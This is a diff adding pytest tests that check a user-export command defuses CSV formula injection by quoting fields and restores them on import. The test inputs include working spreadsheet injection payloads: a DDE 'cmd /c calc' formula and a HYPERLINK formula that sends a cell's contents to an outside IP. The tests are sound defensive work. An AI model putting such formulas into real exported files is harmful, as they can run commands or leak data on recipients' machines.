@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import signal
 import sqlite3
 import stat
@@ -461,6 +462,43 @@ class TestExport:
         here.done("user", "import", str(out))
         after = [(one.name, one.phone, one.provider, one.enabled) for one in accounts(here)]
         assert after == [(one.name, one.phone, one.provider, one.enabled) for one in before]
+
+    @pytest.mark.parametrize(
+        "name",
+        [
+            "=1+1|x",
+            "=cmd|' /c calc'!a0",
+            '=hyperlink("http://192.0.2.1?"&b1,"x")',
+            "+1+1",
+            "-1",
+            "@sum(1;1)",
+            "'=1",
+            "''@x",
+        ],
+    )
+    def test_no_name_is_a_formula_to_a_spreadsheet(self, here: Installation, name: str) -> None:
+        """OWASP, "CSV Injection": such a field gets a quote before it; `import` takes it off."""
+        here.done("user", "add", "--phone", PHONE, "--", name)
+        out = here.folder / "out.csv"
+        here.done("user", "export", str(out))
+        with out.open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")] == [PHONE]
+        assert f"'{name}" in cells
+        here.done("user", "delete", "--yes", "--", name)
+        here.done("user", "import", str(out))
+        assert [(one.name, one.phone) for one in accounts(here)] == [(name, PHONE)]
+
+    def test_what_is_none_stays_as_it_is(self, here: Installation) -> None:
+        """A name that is a number, and one with a quote."""
+        for name in ("+4711", "'t-hooft", "o'neil=x"):
+            here.done("user", "add", name, "--phone", PHONE)
+        done = here.call("user", "export", "-")
+        assert {line.partition(",")[0] for line in done.stdout.splitlines()[1:]} == {
+            "+4711",
+            "'t-hooft",
+            "o'neil=x",
+        }
 
     def test_a_dash_is_standard_output_in_utf_8(self, here: Installation) -> None:
         here.done("user", "add", "zoë", "--phone", PHONE)
